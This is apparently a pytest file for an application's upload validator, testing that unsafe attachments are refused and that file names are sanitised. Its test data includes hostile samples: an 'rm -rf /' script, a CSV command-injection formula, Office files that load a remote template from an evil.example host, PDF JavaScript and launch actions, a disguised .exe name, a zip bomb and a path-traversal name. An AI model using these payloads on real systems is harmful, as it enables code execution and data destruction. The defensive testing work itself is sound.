"""Which files are let in: reliability C15, sixty names and contents and more."""

import pytest

from sroi_app.guide.attached import ENDINGS, KINDS, kind_of
from sroi_app.storage.attached.names import clean_name, portable_name
from sroi_app.storage.attached.recognise import recognise
from sroi_app.storage.attached.refusals import NotAdded
from tests.storage.attached.made import (
    CSV,
    EXE,
    PDF,
    TEXT,
    mail,
    office,
    one_of_each,
    opendocument,
    picture,
    relation,
    zipped,
)

GOOD = one_of_each()
VBA = (
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)
MACRO_ENABLED = (
    '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
SCRIPT = b"#!/bin/sh\nrm -rf /\n"
SHORTCUT = b"[InternetShortcut]\r\nURL=http://example.org\r\n"
DESKTOP = b"[Desktop Entry]\nExec=calc\n"
COMMAND = b"name,score\n\"=cmd|' /C calc'!A0\",3\n"

BAD = {
    # endings that are never let in, whatever is inside
    **{
        f"evidence.{ending}": GOOD["report.pdf"]
        for ending in (
            *("exe", "com", "scr", "msi", "bat", "cmd", "ps1", "vbs", "js", "jse", "wsf", "hta"),
            *("lnk", "url", "iqy", "slk", "scf", "reg", "jar", "app", "dmg", "deb", "sh", "py"),
            *("docm", "xlsm", "xlsb", "xlam", "dotm", "pptm", "doc", "xls", "ppt", "rtf", "msg"),
            *("html", "htm", "mht", "svg", "xml", "xsl", "zip", "7z", "rar", "gz", "iso", "img"),
            *("heic", "gif", "eps", "ps", "mp4", "sroi", "chm", "desktop", "webloc", "one"),
        )
    },
    "evidence": PDF,
    ".pdf": PDF,
    "report.pdf.exe": PDF,
    "report.pdf ": PDF,
    "photo\u202egpj.exe": EXE,
    # content of another kind under an ending that is let in
    "program.pdf": EXE,
    "program.jpg": EXE,
    "program.docx": EXE,
    "program.txt": EXE,
    "page.pdf": HTML,
    "page.txt": HTML,
    "page.csv": HTML,
    "page.eml": HTML,
    "drawing.png": SVG,
    "drawing.txt": SVG,
    "link.txt": LNK,
    "link.csv": SHORTCUT,
    "starter.txt": DESKTOP,
    "script.txt": SCRIPT,
    "old.docx": OLE,
    "locked.xlsx": OLE,
    "archive.docx": zipped({"a.txt": "x"}),
    "archive.odt": zipped({"a.txt": "x"}),
    "workbook.docx": office("xlsx"),
    "document.xlsx": office("docx"),
    "text.ods": opendocument("odt"),
    "picture.pdf": picture("PNG"),
    "picture.png": picture("JPEG"),
    "document.jpg": PDF,
    "not-a-mail.eml": TEXT,
    "bits.txt": b"abc\x00def",
    "cut.docx": office("docx")[:-40],
    "empty.txt": b"",
    "empty.pdf": b"",
    # documents that do something
    "macros.docx": office("docx", {"word/vbaProject.bin": b"x"}),
    "types.docx": office("docx", types=VBA),
    "enabled.docx": office("docx", types=MACRO_ENABLED),
    "old-macros.xlsx": office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
    "packed.docx": office("docx", {"word/embeddings/oleObject1.bin": b"x"}),
    "control.xlsx": office("xlsx", {"xl/activeX/activeX1.xml": "<x/>"}),
    "hidden.docx": office("docx", {"word/media/setup.exe": EXE}),
    "template.docx": office(
        "docx",
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t")},
    ),
    "share.docx": office(
        "docx", {"word/_rels/x.rels": relation("attachedTemplate", "file://host/share/t.dotm")}
    ),
    "object.docx": office(
        "docx", {"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://evil!x")}
    ),
    "basic.odt": opendocument("odt", {"Basic/Standard/Module1.xml": "<x/>"}),
    "scripts.ods": opendocument("ods", {"Scripts/python/run.py": "x"}),
    "listener.odt": opendocument("odt", {"content.xml": "<script:event-listener/>"}),
    "script.pdf": PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "escaped.pdf": PDF + b"<< /S /J#61vaScript >>",
    "launch.pdf": PDF + b"<< /S /Launch /F (calc.exe) >>",
    "command.csv": COMMAND,
    "bomb.docx": office("docx", {"word/media/a.xml": b"\x00" * 30_000_000}),
    "twice.docx": zipped({"[Content_Types].xml": "x", "[content_types].xml": "y"}),
}
"""Names and contents that must not come in."""


@pytest.mark.parametrize("name", GOOD)
def test_every_kind_that_is_known_comes_in(name: str) -> None:
    assert recognise(name, GOOD[name]) is kind_of(name)


def test_every_ending_that_is_known_is_tried() -> None:
    assert sorted({name.rpartition(".")[2] for name in GOOD}) == sorted(e[1:] for e in ENDINGS)


def test_there_are_more_than_sixty_that_must_stay_out() -> None:
    assert len(BAD) > 60


@pytest.mark.parametrize("name", BAD)
def test_nothing_else_comes_in_and_each_is_told_why(name: str) -> None:
    with pytest.raises(NotAdded) as refused:
        recognise(clean_name(name) if name != "report.pdf " else name, BAD[name])
    assert refused.value.title == "The file was not added"
    assert refused.value.explanation.startswith("“")
    assert refused.value.advice.endswith(".")


@pytest.mark.parametrize("kind", [kind.id for kind in KINDS])
@pytest.mark.parametrize("name", GOOD)
def test_content_comes_in_under_no_other_kinds_name(kind: str, name: str) -> None:
    """Text is the one that cannot be told apart: a table, an e-mail and a text all are text."""
    wanted = next(one for one in KINDS if one.id == kind)
    is_text = {kind_of(name).id, kind} <= {"csv", "txt", "eml"}  # type: ignore[union-attr]
    if kind_of(name) is wanted or (is_text and kind != "eml"):
        return
    with pytest.raises(NotAdded):
        recognise(f"evidence{wanted.endings[0]}", GOOD[name])


@pytest.mark.parametrize(
    ("name", "content"),
    {
        "link.docx": office("docx", {"word/_rels/x.rels": relation("hyperlink", "http://a.org")}),
        "local.docx": office(
            "docx",
            {"word/_rels/s.rels": relation("attachedTemplate", "file:///C:\\Users\\a\\x.dotx")},
        ),
        "chart.docx": office("docx", {"word/embeddings/Sheet1.xlsx": office("xlsx")}),
        "printer.xlsx": office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"x"}),
        "others.xlsx": office(
            "xlsx", {"xl/externalLinks/_rels/a.rels": relation("externalLinkPath", "b.xlsx")}
        ),
        "negative.csv": b"a,b\n-1,+2\n" * 10,
        "pipes.csv": b"a|b|c\nyes!|no|-3\n",
        "latin.csv": "name;caf\u00e9\n1;2\n".encode("cp1252"),
        "wide.txt": "Ŵyn".encode("utf-16"),
        "marked.csv": b"\xef\xbb\xbfa,b\n",
    }.items(),
)
def test_what_people_really_have_is_not_refused(name: str, content: bytes) -> None:
    assert recognise(name, content) is kind_of(name)


def test_what_to_do_instead_is_said_for_what_people_often_have() -> None:
    with pytest.raises(NotAdded, match="not a kind of file") as refused:
        recognise("notes.docm", b"x")
    assert refused.value.advice == ("Save it without macros, as .docx or .xlsx, and add that file.")
    with pytest.raises(NotAdded) as refused:
        recognise("photo.pdf", picture("PNG"))
    assert "seems to be a picture" in refused.value.explanation


def test_a_table_of_any_shape_is_looked_over_in_no_time() -> None:
    """The search for commands takes time in proportion, also where it nearly finds one often."""
    for shape in (b",-1" * 2_000_000, b"\n" * 5_000_000, b",=" * 2_000_000, b" " * 5_000_000):
        recognise("table.csv", b"a" + shape)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("photo\u202egpj.exe", "photogpj.exe"),
        ("re\u200bport\ufeff.pdf", "report.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\ann\\scan.pdf", "scan.pdf"),
        ("a\tb\nc.pdf", "abc.pdf"),
        ("what? <this>: a|b*.pdf", "what this a b .pdf"),
        ("  .hidden.pdf. ", "hidden.pdf"),
        ("e\u0301te\u0301.txt", "été.txt"),
        ("caf\udce9.txt", "caf.txt"),
        ("\u202e", "File"),
        ("", "File"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("two\u2028lines\u00a0apart.pdf", "two lines apart.pdf"),
    ],
)
def test_a_name_is_kept_as_it_looks_and_without_the_way_to_it(given: str, kept: str) -> None:
    assert clean_name(given) == kept


@pytest.mark.parametrize(
    ("kept", "portable"),
    [
        ("scan.pdf", "scan.pdf"),
        ("invoice.exe.pdf", "invoice exe.pdf"),
        ("CON.txt", "CON-.txt"),
        ("été 2026 (final).docx", "été 2026 final.docx"),
        ("….pdf", "File.pdf"),
        ("no ending", "no ending"),
    ],
)
def test_a_name_for_other_programs_has_one_dot(kept: str, portable: str) -> None:
    assert portable_name(kept) == portable


def test_a_mail_is_known_by_who_it_is_from() -> None:
    assert recognise("a.eml", b"\r\n" + mail()).id == "eml"
    with pytest.raises(NotAdded):
        recognise("a.eml", b"From: nobody in particular\n\nhello\n")


def test_a_table_with_a_command_is_told_apart_from_one_with_figures() -> None:
    assert recognise("a.csv", CSV).id == "csv"
    with pytest.raises(NotAdded, match="macro, a script"):
        recognise("a.csv", b"=HYPERLINK|x!y\n")
